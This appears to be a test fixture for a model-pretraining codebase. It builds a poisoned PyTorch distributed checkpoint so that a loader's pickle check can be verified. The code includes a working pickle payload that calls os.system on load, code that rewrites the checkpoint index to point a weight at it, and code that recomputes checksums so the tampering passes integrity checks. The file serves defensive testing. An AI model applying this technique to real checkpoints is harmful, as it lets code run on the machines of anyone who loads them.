"""A crafted checkpoint, as an attacker would make one from a real checkpoint: its DCP index
marks a tensor the loader asks for as BytesStorageMetadata (with the tensor's `size`, so
megatron's shape check passes), pointing at a pickle that runs a shell command. Without
store.check_index_pickle, loading it runs the command (checked once by hand)."""

from __future__ import annotations

import json
import pickle
from pathlib import Path

from pretrain.checkpoint import store


class RunsCode:
    """Unpickling this calls os.system(cmd)."""

    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self):
        import os

        return (os.system, (self.cmd,))


def rerecord(ckpt: Path, names: list[str]) -> None:
    """Update checkpoint.json for changed files: the record is a checksum, not a signature."""
    record = json.loads((ckpt / store.RECORD).read_text())
    for rel in names:
        record["files"][rel] = {"bytes": (ckpt / rel).stat().st_size,
                                "sha256": store.sha256_file(ckpt / rel)}
    (ckpt / store.RECORD).write_text(json.dumps(record))


def plant_bytes_entry(ckpt: Path, command: str) -> str:
    """Make the embedding weight a pickled-bytes entry whose payload runs `command`."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

    meta = pickle.loads((ckpt / ".metadata").read_bytes())  # our own file: trusted here
    key = next(k for k in meta.state_dict_metadata if k.startswith("model.embedding"))
    entry = BytesStorageMetadata()
    entry.size = meta.state_dict_metadata[key].size
    meta.state_dict_metadata[key] = entry
    payload = pickle.dumps(RunsCode(command))
    (ckpt / "__evil.distcp").write_bytes(payload)
    meta.storage_data[MetadataIndex(key)] = _StorageInfo("__evil.distcp", 0, len(payload))
    (ckpt / ".metadata").write_bytes(pickle.dumps(meta))
    rerecord(ckpt, [".metadata", "__evil.distcp"])
    return key
